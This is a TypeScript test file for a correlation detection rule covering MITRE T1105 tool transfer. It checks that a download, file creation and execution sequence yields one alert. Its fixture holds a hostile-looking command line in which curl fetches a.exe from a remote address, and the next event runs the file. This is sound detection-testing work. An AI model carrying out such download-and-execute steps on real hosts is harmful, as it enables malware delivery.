import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { DetectionContext } from '../detection.js'
import type { AlertEvent, FileEvent, HostEvent, SensorEvent } from '../events.js'
import { AddressSet, DEFAULT_INTERNAL_CIDRS } from '../net/address-set.js'
import chain from './chain.js'
import { DETECTIONS } from './index.js'

const ctx: DetectionContext = { internal: new AddressSet(DEFAULT_INTERNAL_CIDRS) }

function host(ts: number, over: Partial<HostEvent>): HostEvent {
  return {
    kind: 'host',
    ts,
    source: 'syslog',
    host: 'WS01',
    host_ip: '10.66.0.2',
    event_id: 'sysmon:1',
    action: 'process',
    raw: '',
    ...over,
  }
}
const dl: FileEvent = {
  kind: 'file',
  ts: 105,
  source: 'pcap',
  uid: 'C1',
  orig_h: '10.66.0.2',
  orig_p: 50000,
  resp_h: '198.51.100.80',
  resp_p: 80,
  proto: 'tcp',
  file_proto: 'http',
  name: 'a.exe',
  direction: 'download',
  sender_is_orig: false,
  bytes: 10,
  missing_bytes: 0,
  type: 'pe',
  complete: true,
  head_hex: '4d5a',
}

function run(events: SensorEvent[]): AlertEvent[] {
  const d = chain.create(chain.params, ctx)
  const out: AlertEvent[] = []
  for (const e of events) out.push(...(d.onEvent(e) ?? []))
  out.push(...(d.onEnd?.(1000) ?? []))
  return out
}

test('metadata is complete and registered', () => {
  assert.equal(chain.id, 'chain')
  assert.equal(chain.technique, 'T1105')
  assert.ok(chain.references.some((r) => r.endsWith('DET0060')))
  assert.ok(chain.falsePositives.length > 0)
  assert.ok(chain.inputs.includes('alert') && chain.inputs.includes('host') && chain.inputs.includes('dns'))
  assert.ok(DETECTIONS.some((d) => d.id === 'chain'))
})

test('scores above its parts; deterministic; input not mutated; its own alerts are ignored', () => {
  const events: SensorEvent[] = [
    host(100, {
      image: 'C:\\Windows\\System32\\curl.exe',
      command_line: 'curl.exe -o C:\\Temp\\a.exe http://198.51.100.80/a.exe',
    }),
    dl,
    host(110, {
      event_id: 'sysmon:11',
      action: 'file-create',
      target_filename: 'C:\\Temp\\a.exe',
      image: 'C:\\Windows\\System32\\curl.exe',
    }),
    host(120, { image: 'C:\\Temp\\a.exe', command_line: 'a.exe' }),
  ]
  const before = JSON.stringify(events)
  const a = run(events)
  assert.equal(JSON.stringify(events), before)
  assert.deepEqual(run(events), a)
  assert.equal(a.length, 1)
  const alert = a[0]
  assert.ok(alert)
  assert.ok(alert.score > chain.params.file_piece_score && alert.score > chain.params.host_piece_score)
  assert.equal(alert.details?.links, 4)
  // Fed back its own alert (the engine publishes alerts to 'alert' subscribers), nothing more happens.
  const d = chain.create(chain.params, ctx)
  for (const e of events) d.onEvent(e)
  assert.equal(d.onEvent(alert), undefined)
})

test('an execution from another path than the created file is not its execution', () => {
  const events: SensorEvent[] = [
    dl,
    host(110, { event_id: 'sysmon:11', action: 'file-create', target_filename: 'C:\\Temp\\a.exe' }),
    host(120, { image: 'C:\\Other\\a.exe' }),
  ]
  const a = run(events)
  assert.equal(a.length, 1)
  assert.equal(a[0]?.details?.links_present, 'transfer,file_create')
})
